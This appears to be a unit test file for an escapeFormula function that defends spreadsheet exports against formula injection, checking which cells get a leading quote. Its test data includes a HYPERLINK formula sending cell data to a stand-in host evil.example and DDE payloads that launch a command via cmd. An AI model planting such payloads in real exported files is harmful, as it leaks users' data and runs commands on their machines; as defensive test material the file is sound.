import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { escapeFormula } from '../../src/domain/spreadsheet-formulas.ts';

describe('escapeFormula', () => {
  it('puts a quote before a cell a spreadsheet would read as a formula', () => {
    for (const cell of [
      '=HYPERLINK("https://evil.example/?d="&A2,"Details")',
      "=cmd|' /C calc'!A0",
      '+SUM(1,2)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '=',
      '-',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
    ]) {
      assert.equal(escapeFormula(cell), `'${cell}`, JSON.stringify(cell));
    }
  });

  it('keeps ordinary text, and text with those characters further in, as written', () => {
    for (const cell of ['', 'Spaghetti n.5, 500 g', 'Barilla', 'a=b', '5 - 3', 'pasta@home', "'=already text", ' =1+1', '5', '3,5', 'Sottozero -18 °C']) {
      assert.equal(escapeFormula(cell), cell, JSON.stringify(cell));
    }
  });

  it('keeps a signed plain number (a temperature, a tolerance) as written', () => {
    for (const cell of ['-5', '+3', '-18.5', '+3,5', '-0', '-1000']) {
      assert.equal(escapeFormula(cell), cell, cell);
    }
  });

  it('escapes a signed cell that is more than a number', () => {
    for (const cell of ['-5 °C', '-5+A1', '-1e3', '-1.000,5', '+3,5\n=1+1', '-5\n', '- 5', '-.5', '+39 06 1234567']) {
      assert.equal(escapeFormula(cell), `'${cell}`, JSON.stringify(cell));
    }
  });
});
